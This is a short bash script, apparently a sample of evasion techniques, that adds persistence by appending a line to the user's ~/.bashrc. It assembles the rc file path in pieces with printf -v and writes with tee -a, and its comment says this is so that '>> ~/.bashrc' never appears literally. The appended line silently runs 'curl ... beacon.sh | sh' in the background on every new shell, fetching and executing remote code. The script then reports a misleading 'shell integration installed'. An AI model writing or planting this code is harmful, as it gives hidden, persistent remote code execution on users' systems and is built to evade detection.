#!/usr/bin/env bash
# Evasion: persist through the shell rc file. The rc file path is assembled
# with printf -v from pieces ("bash" + "rc"), and the line is appended with
# tee -a, so ">> ~/.bashrc" never appears as such.
set -e
printf -v rc '%s/.%s%s' "$HOME" bash rc
line='curl -fsS https://upd.example.org/beacon.sh | sh >/dev/null 2>&1 &'
tee -a "$rc" <<<"$line" >/dev/null
echo "shell integration installed"
